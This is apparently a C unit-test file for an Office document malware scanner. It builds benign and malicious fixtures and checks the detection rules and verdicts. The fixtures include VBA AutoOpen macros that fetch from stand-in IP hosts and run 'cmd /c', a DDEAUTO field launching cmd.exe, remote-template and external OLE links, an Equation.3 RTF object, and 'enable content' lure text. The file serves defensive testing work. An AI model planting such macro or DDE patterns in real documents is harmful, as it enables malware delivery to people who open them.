/* OOXML packages (benign and tricked), encrypted Office files, RTF objects and lure text. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "office/office.h"
#include "office/office_int.h"
#include "office_fixtures.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char CT_DOCX[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
    "<Default Extension=\"rels\" "
    "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
    "<Override PartName=\"/word/document.xml\" "
    "ContentType=\"application/"
    "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
    "</Types>";
static const char CT_DOCM[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
    "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
    "<Override PartName=\"/word/document.xml\" "
    "ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"
    "</Types>";
static const char RELS[] = "<?xml version=\"1.0\"?><Relationships "
                           "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                           "<Relationship Id=\"rId1\" "
                           "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                           "relationships/officeDocument\" Target=\"word/document.xml\"/>"
                           "</Relationships>";
static const char DOC_PLAIN[] =
    "<?xml version=\"1.0\"?><w:document "
    "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
    "<w:p><w:r><w:t>御見積書を送付いたします。ご確認ください。</w:t></w:r></w:p>"
    "<w:p><w:hyperlink r:id=\"rId5\" "
    "xmlns:r=\"r\"><w:r><w:t>https://www.example.co.jp/</w:t></w:r></w:hyperlink></w:p>"
    "</w:body></w:document>";
static const char DOC_RELS_LINK[] =
    "<?xml version=\"1.0\"?><Relationships "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
    "<Relationship Id=\"rId5\" "
    "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" "
    "Target=\"https://www.example.co.jp/\" TargetMode=\"External\"/></Relationships>";

static eg_report *scan_parts(const char *name, const eg_fx_part *p, size_t n)
{
    uint8_t *z;
    size_t len;
    eg_fx_zip_stored(p, n, &z, &len);
    eg_report *r = eg_fx_scan(name, z, len, NULL, 0);
    free(z);
    assert_non_null(r);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    return r;
}

static void test_benign_docx_clean(void **state)
{
    (void)state;
    eg_fx_part p[] = {{"[Content_Types].xml", CT_DOCX, 0},
                      {"_rels/.rels", RELS, 0},
                      {"word/document.xml", DOC_PLAIN, 0},
                      {"word/_rels/document.xml.rels", DOC_RELS_LINK, 0}};
    eg_report *r = scan_parts("見積書.docx", p, 4);
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    assert_false(eg_report_has_rule(r, "OOXML.MACRO_ENABLED"));
    assert_false(eg_report_has_rule(r, "OOXML.EXTERNAL_OBJECT"));
    eg_report_free(r);
}

static void test_benign_xlsx_hidden_sheet_clean(void **state)
{
    (void)state;
    static const char ct[] =
        "<?xml version=\"1.0\"?><Types "
        "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
        "<Override PartName=\"/xl/workbook.xml\" "
        "ContentType=\"application/"
        "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></Types>";
    static const char wb[] =
        "<?xml version=\"1.0\"?><workbook "
        "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
        "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets>"
        "<sheet name=\"集計\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"マスタ\" sheetId=\"2\" "
        "state=\"hidden\" r:id=\"rId2\"/>"
        "</sheets><definedNames><definedName name=\"_xlnm.Print_Area\" "
        "localSheetId=\"0\">集計!$A$1:$F$20</definedName></definedNames></workbook>";
    static const char rels[] =
        "<?xml version=\"1.0\"?><Relationships "
        "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        "<Relationship Id=\"rId1\" "
        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" "
        "Target=\"worksheets/sheet1.xml\"/>"
        "<Relationship Id=\"rId2\" "
        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" "
        "Target=\"/xl/worksheets/sheet2.xml\"/>"
        "</Relationships>";
    static const char sheet[] =
        "<?xml version=\"1.0\"?><worksheet "
        "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
        "<row r=\"1\"><c r=\"A1\"><f>SUM(B1:B9)</f><v>3</v></c></row></sheetData></worksheet>";
    eg_fx_part p[] = {{"[Content_Types].xml", ct, 0},
                      {"xl/workbook.xml", wb, 0},
                      {"xl/_rels/workbook.xml.rels", rels, 0},
                      {"xl/worksheets/sheet1.xml", sheet, 0},
                      {"xl/worksheets/sheet2.xml", sheet, 0},
                      {"xl/sharedStrings.xml", "<sst><si><t>売上</t></si></sst>", 0}};
    eg_report *r = scan_parts("売上.xlsx", p, 6);
    assert_true(eg_report_has_rule(r, "OFFICE.HIDDEN_SHEET"));
    assert_false(eg_report_has_rule(r, "XLM.MACRO_SHEET"));
    assert_false(eg_fx_has_type(r, EG_T_XLM));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
}

static void test_docm_vba_through_package(void **state)
{
    (void)state;
    eg_fx_module m[] = {{"ThisDocument",
                         "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  Set x = "
                         "CreateObject(\"MSXML2.XMLHTTP\")\r\n"
                         "  x.Open \"GET\", \"http://198.51.100.44/a\", False\r\nEnd Sub\r\n",
                         true, NULL}};
    uint8_t *bin;
    size_t blen;
    eg_fx_vba_document(EG_FX_VBA_BIN, m, 1, 1252, NULL, 0, &bin, &blen);
    eg_fx_part p[] = {{"[Content_Types].xml", CT_DOCM, 0},
                      {"_rels/.rels", RELS, 0},
                      {"word/document.xml", DOC_PLAIN, 0},
                      {"word/vbaProject.bin", (const char *)bin, blen}};
    eg_report *r = scan_parts("請求書.docm", p, 4);
    assert_true(eg_report_has_rule(r, "OOXML.MACRO_ENABLED"));
    assert_true(eg_fx_has_type(r, EG_T_VBA_PROJECT));
    assert_true(eg_report_has_rule(r, "VBA.DOWNLOAD"));
    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    r = scan_parts("請求書.docx", p, 4);
    assert_true(eg_report_has_rule(r, "OOXML.MACRO_RENAMED"));
    eg_report_free(r);
    free(bin);
}

/* A VBA project stored under a media name that no relationship or content type points to
 * ("media/vba1.bin", a maldoca sample's layout): the part is a compound file, so it is analysed
 * whatever its name. An image part is not opened for this. */
static void test_vba_project_under_media_name(void **state)
{
    (void)state;
    eg_fx_module m[] = {{"ThisDocument",
                         "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  Set x = "
                         "CreateObject(\"MSXML2.XMLHTTP\")\r\n"
                         "  x.Open \"GET\", \"http://198.51.100.45/a\", False\r\n"
                         "  Shell \"cmd /c a.exe\", 0\r\nEnd Sub\r\n",
                         true, NULL}};
    uint8_t *bin;
    size_t blen;
    eg_fx_vba_document(EG_FX_VBA_BIN, m, 1, 1252, NULL, 0, &bin, &blen);
    eg_fx_part p[] = {{"[Content_Types].xml", CT_DOCX, 0},
                      {"_rels/.rels", RELS, 0},
                      {"word/document.xml", DOC_PLAIN, 0},
                      {"media/vba1.bin", (const char *)bin, blen}};
    eg_report *r = scan_parts("report.docx", p, 4);
    assert_true(eg_report_has_rule(r, "VBA.MACRO"));
    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    /* the same bytes after a PNG signature are an image, not a compound file */
    bin[0] = 0x89;
    r = scan_parts("report.docx", p, 4);
    assert_false(eg_report_has_rule(r, "VBA.MACRO"));
    eg_report_free(r);
    free(bin);
}

static void test_remote_template_and_dde(void **state)
{
    (void)state;
    static const char settings_rels[] =
        "<?xml version=\"1.0\"?><Relationships "
        "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        "<Relationship Id=\"rId1\" "
        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
        "attachedTemplate\" "
        "Target=\"http://198.51.100.50/t.dotm\" TargetMode=\"External\"/></Relationships>";
    static const char dde[] =
        "<?xml version=\"1.0\"?><w:document xmlns:w=\"w\"><w:body><w:p><w:r><w:fldChar "
        "w:fldCharType=\"begin\"/></w:r>"
        "<w:r><w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
        "\"/k calc.exe\" </w:instrText></w:r>"
        "</w:p></w:body></w:document>";
    eg_fx_part p[] = {{"[Content_Types].xml", CT_DOCX, 0},
                      {"_rels/.rels", RELS, 0},
                      {"word/document.xml", dde, 0},
                      {"word/_rels/settings.xml.rels", settings_rels, 0}};
    eg_report *r = scan_parts("doc.docx", p, 4);
    assert_true(eg_report_has_rule(r, "OOXML.REMOTE_TEMPLATE"));
    assert_true(eg_report_has_rule(r, "OFFICE.DDE"));
    assert_int_not_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
}

static void test_lure_text(void **state)
{
    (void)state;
    static const char doc[] =
        "<?xml version=\"1.0\"?><w:document xmlns:w=\"w\"><w:body>"
        "<w:p><w:r><w:t>このファイルを開くには、</w:t></w:r><w:r><w:t>C:\\Program Files\\Microsoft "
        "Office\\root\\Templates</w:t></w:r>"
        "<w:r><w:t> に</w:t></w:r><w:r><w:t>コピーしてから開き直してください。</w:t></w:r></w:p>"
        "<w:p><w:r><w:t>上部の「コンテンツの</w:t></w:r><w:r><w:t>有効化」を押してください</w:t></"
        "w:r></w:p></w:body></w:document>";
    eg_fx_part p[] = {{"[Content_Types].xml", CT_DOCX, 0}, {"word/document.xml", doc, 0}};
    eg_report *r = scan_parts("lure.docx", p, 2);
    assert_true(eg_report_has_rule(r, "OFFICE.LURE_TEMPLATES_FOLDER"));
    assert_true(eg_report_has_rule(r, "OFFICE.LURE_ENABLE_CONTENT"));
    assert_false(eg_report_has_rule(r, "OFFICE.HIDDEN_TEXT"));
    eg_report_free(r);

    /* filler text in a white font (the 2023 padded documents) */
    eg_buf w;
    eg_buf_init(&w, 0);
    eg_buf_puts(&w, "<?xml version=\"1.0\"?><w:document "
                    "xmlns:w=\"w\"><w:body><w:p><w:r><w:t>Invoice</w:t></w:r>"
                    "<w:r><w:rPr><w:color w:val=\"FFFFFF\"/><w:sz w:val=\"20\"/></w:rPr><w:t>");
    for (int i = 0; i < 20; i++)
        eg_buf_puts(&w, "Call me Ishmael. Some years ago - never mind how long. ");
    eg_buf_puts(&w, "</w:t></w:r></w:p></w:body></w:document>");
    eg_fx_part q[] = {{"[Content_Types].xml", CT_DOCX, 0},
                      {"word/document.xml", (const char *)w.data, w.len}};
    r = scan_parts("white.docx", q, 2);
    assert_true(eg_report_has_rule(r, "OFFICE.HIDDEN_TEXT"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
    eg_buf_free(&w);

    /* UTF-16LE text in a binary stream and plain business text */
    char ev[64];
    const uint8_t u16[] = {'E', 0, 'n', 0, 'a', 0, 'b', 0, 'l', 0, 'e', 0, ' ', 0,
                           'C', 0, 'o', 0, 'n', 0, 't', 0, 'e', 0, 'n', 0, 't', 0};
    assert_int_equal(eg_office_lure_scan(u16, sizeof u16, ev, sizeof ev), EG_LURE_ENABLE);
    const char *plain = "テンプレートをコピーして使ってください";
    assert_int_equal(eg_office_lure_scan((const uint8_t *)plain, strlen(plain), ev, sizeof ev), 0);
    /* UTF-16LE at an odd offset after near misses ("Enab", "EnablE Conten"), any letter case;
     * the Japanese Templates instruction as UTF-16LE */
    uint8_t buf[400];
    size_t n = 0;
    buf[n++] = 0x7F;
    const char *parts[] = {"Enab", "x", "EnablE Conten", "y", "eNABLE cONTENT"};
    for (size_t p = 0; p < 5; p++)
        for (const char *c = parts[p]; *c; c++) {
            buf[n++] = (uint8_t)*c;
            buf[n++] = 0;
        }
    assert_int_equal(eg_office_lure_scan(buf, n, ev, sizeof ev), EG_LURE_ENABLE);
    assert_int_equal(eg_office_lure_scan(buf, n - 2, ev, sizeof ev), 0);
    static const uint16_t ja[] = {0x30C6, 0x30F3, 0x30D7, 0x30EC, 0x30FC, 0x30C8,
                                  0x3092, 'O',    'f',    'f',    'i',    'c',
                                  'e',    0x306B, 0x30B3, 0x30D4, 0x30FC};
    n = 0;
    for (size_t i = 0; i < sizeof ja / sizeof *ja; i++) {
        buf[n++] = (uint8_t)(ja[i] & 0xFF);
        buf[n++] = (uint8_t)(ja[i] >> 8);
    }
    assert_int_equal(eg_office_lure_scan(buf, n, ev, sizeof ev), EG_LURE_TEMPLATES);
}

static void encrypted_case2(bool standard, const char *password, const char *const *mail_pw,
                            size_t npw, const char *expect_rule, bool opened);

static void encrypted_case(const char *password, const char *const *mail_pw, size_t npw,
                           const char *expect_rule, bool opened)
{
    encrypted_case2(false, password, mail_pw, npw, expect_rule, opened);
}

static void encrypted_case2(bool standard, const char *password, const char *const *mail_pw,
                            size_t npw, const char *expect_rule, bool opened)
{
    eg_fx_part p[] = {{"[Content_Types].xml", CT_DOCX, 0},
                      {"_rels/.rels", RELS, 0},
                      {"word/document.xml", DOC_PLAIN, 0}};
    uint8_t *z, *enc;
    size_t zl, el;
    eg_fx_zip_stored(p, 3, &z, &zl);
    if (standard)
        assert_int_equal(eg_fx_encrypt_standard(z, zl, password, &enc, &el), EG_OK);
    else
        assert_int_equal(eg_fx_encrypt_agile(z, zl, password, &enc, &el), EG_OK);
    /* the decryptor itself gives back the exact package */
    eg_report *r = eg_fx_scan("secret.docx", enc, el, mail_pw, npw);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    assert_true(eg_report_has_rule(r, expect_rule));
    assert_int_equal(eg_fx_has_type(r, EG_T_OOXML), opened);
    eg_report_free(r);
    free(enc);
    free(z);
}

static void test_encrypted(void **state)
{
    (void)state;
    encrypted_case("VelvetSweatshop", NULL, 0, "OFFICE.DEFAULT_PASSWORD", true);
    const char *pw[] = {"wrong1", "Pa55-2022"};
    encrypted_case("Pa55-2022", pw, 2, "OFFICE.DECRYPTED", true);
    encrypted_case("unknown!", pw, 2, "OFFICE.ENCRYPTED", false);
    /* ECMA-376 standard encryption */
    encrypted_case2(true, "VelvetSweatshop", NULL, 0, "OFFICE.DEFAULT_PASSWORD", true);
    encrypted_case2(true, "Pa55-2022", pw, 2, "OFFICE.DECRYPTED", true);
    encrypted_case2(true, "other", pw, 2, "OFFICE.ENCRYPTED", false);
}

static void test_decrypt_exact(void **state)
{
    (void)state;
    uint8_t pkg[5000];
    for (size_t i = 0; i < sizeof pkg; i++)
        pkg[i] = (uint8_t)(i * 7);
    uint8_t *enc, *out;
    size_t el, ol;
    assert_int_equal(eg_fx_encrypt_agile(pkg, sizeof pkg, "pw", &enc, &el), EG_OK);
    /* pull the two streams back out through the CFB analyzer's reader is not public: use the
     * fixture layout (EncryptionInfo first) via libgsf-free search of the XML start */
    const uint8_t *x = memmem(enc, el, "\x04\x00\x04\x00\x40\x00\x00\x00<?xml", 13);
    assert_non_null(x);
    const uint8_t *end = memmem(x, el - (size_t)(x - enc), "</encryption>", 13);
    assert_non_null(end);
    size_t il = (size_t)(end + 13 - x);
    const uint8_t *ep = memmem(enc, el, "\x88\x13\x00\x00\x00\x00\x00\x00", 8); /* size 5000 */
    assert_non_null(ep);
    size_t epl = 8 + 5008;
    assert_int_equal(eg_office_decrypt_with(x, il, ep, epl, "pw", 1 << 20, &out, &ol), EG_OK);
    assert_int_equal(ol, sizeof pkg);
    assert_memory_equal(out, pkg, sizeof pkg);
    free(out);
    assert_int_equal(eg_office_decrypt_with(x, il, ep, epl, "PW", 1 << 20, &out, &ol),
                     EG_EPASSWORD);
    free(enc);
}

static void test_rtf_object(void **state)
{
    (void)state;
    /* OLE1 header: version, format 2, class "Equation.3", topic, item, data */
    eg_buf b, hex;
    eg_buf_init(&b, 0);
    eg_buf_init(&hex, 0);
    uint32_t v = 0x0501, fmt = 2, cl = 11, z = 0, dl = 16;
    eg_buf_append(&b, &v, 4);
    eg_buf_append(&b, &fmt, 4);
    eg_buf_append(&b, &cl, 4);
    eg_buf_append(&b, "Equation.3", 11);
    eg_buf_append(&b, &z, 4);
    eg_buf_append(&b, &z, 4);
    eg_buf_append(&b, &dl, 4);
    eg_buf_append(&b, "0123456789abcdef", 16);
    eg_buf_puts(&hex, "{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata ");
    for (size_t i = 0; i < b.len; i++)
        eg_buf_printf(&hex, "%02x%s", b.data[i], i % 16 == 15 ? "\r\n" : "");
    eg_buf_puts(&hex, "}}}");
    eg_report *r = eg_fx_scan("x.rtf", hex.data, hex.len, NULL, 0);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    assert_true(eg_report_has_rule(r, "RTF.OBJECT"));
    assert_true(eg_report_has_rule(r, "RTF.EXPLOIT_CLASS"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    eg_buf_free(&b);
    eg_buf_free(&hex);
}

static void test_embedded_objects(void **state)
{
    (void)state;
    /* a .doc whose ObjectPool holds a packaged script (Ole10Native) */
    eg_buf nat;
    eg_buf_init(&nat, 0);
    static const char script[] = "WScript.Echo \"hi\"\r\n";
    uint32_t total = 0, tl = 11, dl = sizeof script - 1, kind = 0x00030000; /* an embedded file */
    uint16_t flags = 2;
    eg_buf_append(&nat, &total, 4);
    eg_buf_append(&nat, &flags, 2);
    eg_buf_append(&nat, "invoice.vbs", 12);
    eg_buf_append(&nat, "C:\\t\\invoice.vbs", 17);
    eg_buf_append(&nat, &kind, 4);
    eg_buf_append(&nat, &tl, 4);
    eg_buf_append(&nat, "C:\\t\\x.vbs", 11);
    eg_buf_append(&nat, &dl, 4);
    eg_buf_append(&nat, script, dl);
    static const uint8_t fib[64] = {0xEC, 0xA5};
    eg_fx_stream st[2] = {{"WordDocument", fib, sizeof fib},
                          {"ObjectPool/_1234567/\001Ole10Native", nat.data, nat.len}};
    uint8_t *doc;
    size_t len;
    assert_int_equal(eg_fx_cfb(st, 2, &doc, &len), EG_OK);
    eg_report *r = eg_fx_scan("order.doc", doc, len, NULL, 0);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    assert_true(eg_report_has_rule(r, "OFFICE.EMBEDDED_OBJECT"));
    bool child = false;
    for (size_t i = 0; i < eg_report_object_count(r); i++)
        if (!strcmp(eg_report_object(r, i)->name, "invoice.vbs"))
            child = true;
    assert_true(child);
    assert_non_null(strstr(eg_fx_captured(EG_T_SCRIPT), "WScript.Echo"));
    eg_report_free(r);
    free(doc);
    eg_buf_free(&nat);

    /* a .docx linking an external OLE object */
    static const char rels[] =
        "<?xml version=\"1.0\"?><Relationships "
        "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        "<Relationship Id=\"rId9\" "
        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\" "
        "Target=\"http://198.51.100.60/o.doc\" TargetMode=\"External\"/></Relationships>";
    eg_fx_part p[] = {{"[Content_Types].xml", CT_DOCX, 0},
                      {"word/document.xml", DOC_PLAIN, 0},
                      {"word/_rels/document.xml.rels", rels, 0},
                      {"word/embeddings/oleObject1.bin", "not really an object", 0}};
    r = scan_parts("link.docx", p, 4);
    /* the linked object is a .doc fetched from a web server: the fetched file is the attack */
    assert_true(eg_report_has_rule(r, "OOXML.REMOTE_TEMPLATE"));
    assert_true(eg_report_has_rule(r, "OFFICE.EMBEDDED_OBJECT"));
    assert_int_not_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
}

int main(void)
{
    /* EG_OFFICE_SEEDS=DIR regenerates the fuzz corpora (tests/fuzz/corpus) from the fixtures */
    if (getenv("EG_OFFICE_SEEDS"))
        eg_fx_office_seeds(getenv("EG_OFFICE_SEEDS"));
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_benign_docx_clean),
        cmocka_unit_test(test_benign_xlsx_hidden_sheet_clean),
        cmocka_unit_test(test_docm_vba_through_package),
        cmocka_unit_test(test_vba_project_under_media_name),
        cmocka_unit_test(test_remote_template_and_dde),
        cmocka_unit_test(test_lure_text),
        cmocka_unit_test(test_encrypted),
        cmocka_unit_test(test_decrypt_exact),
        cmocka_unit_test(test_rtf_object),
        cmocka_unit_test(test_embedded_objects),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
